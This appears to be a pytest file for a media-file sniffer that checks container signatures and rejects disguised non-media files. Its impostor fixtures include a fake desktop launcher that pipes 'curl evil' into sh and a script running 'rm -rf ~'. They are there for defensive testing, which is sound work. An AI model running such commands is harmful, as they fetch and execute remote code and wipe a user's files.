import os

import pytest
from hypothesis import given
from hypothesis import strategies as st

from showkeeper.domain.sniff import container_of, describe

DESKTOP = b"[Desktop Entry]\nType=Application\nName=Episode 1\nExec=sh -c 'curl evil | sh'\n"


@pytest.mark.parametrize(
    ("head", "why"),
    [
        (DESKTOP, "text"),
        (DESKTOP.decode().encode("utf-16"), "UTF-16"),
        (DESKTOP.decode().encode("utf-16-le"), "UTF-16"),
        (b"<!DOCTYPE html><html><body>404 not found</body></html>", "text"),
        (b"#!/bin/sh\nrm -rf ~\n", "text"),
        ("Épisode indisponible — réessayez plus tard\n".encode(), "text"),
        (b"", "empty"),
        (b"MZ\x90\x00\x03" + bytes(60) + b"PE\x00\x00", "Windows executable"),
        (b"\x7fELF\x02\x01\x01" + bytes(57), "ELF executable"),
        (b"FLV\x01\x05" + bytes(20), "FLV"),
        (b"\x30\x26\xb2\x75\x8e\x66\xcf\x11" + bytes(20), "ASF"),
    ],
)
def test_impostors_are_not_media_and_say_what_they_are(head: bytes, why: str) -> None:
    assert container_of(head) is None
    assert why in describe(head)


@pytest.mark.parametrize(
    ("head", "ext"),
    [
        (b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00", "mp4"),
        (b"\x00\x00\x00\x20ftypM4A \x00\x00\x02\x00", "m4a"),
        (b"\x00\x00\x00\x14ftypqt  \x00\x00\x02\x00", "mov"),
        (b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x88matroska", "mkv"),
        (b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x84webm", "webm"),
        (b"RIFF\x00\x00\x00\x00AVI LIST", "avi"),
        ((b"\x47" + bytes(187)) * 4, "ts"),
        (b"ID3\x04\x00\x00\x00\x00\x00\x00", "mp3"),
        (b"\xff\xfb\x90\x00", "mp3"),
        (b"\xff\xf1\x50\x80", "aac"),
        (b"OggS\x00\x02" + bytes(22) + b"\x01vorbis", "ogg"),
        (b"OggS\x00\x02" + bytes(22) + b"OpusHead", "opus"),
    ],
)
def test_container_signatures_give_their_extension(head: bytes, ext: str) -> None:
    assert container_of(head) == ext


def test_random_bytes_are_not_media() -> None:
    unknown = [container_of(b"\x00" + os.urandom(4095)) for _ in range(50)]
    assert unknown == [None] * 50


@given(st.text(min_size=1, max_size=2000))
def test_text_is_never_media(text: str) -> None:
    for encoding in ("utf-8", "utf-16", "utf-16-le"):
        head = text.encode(encoding, errors="ignore")
        if head[4:8] != b"ftyp" and not head.startswith((b"ID3", b"OggS", b"RIFF")):
            assert container_of(head) is None or not head.isascii()
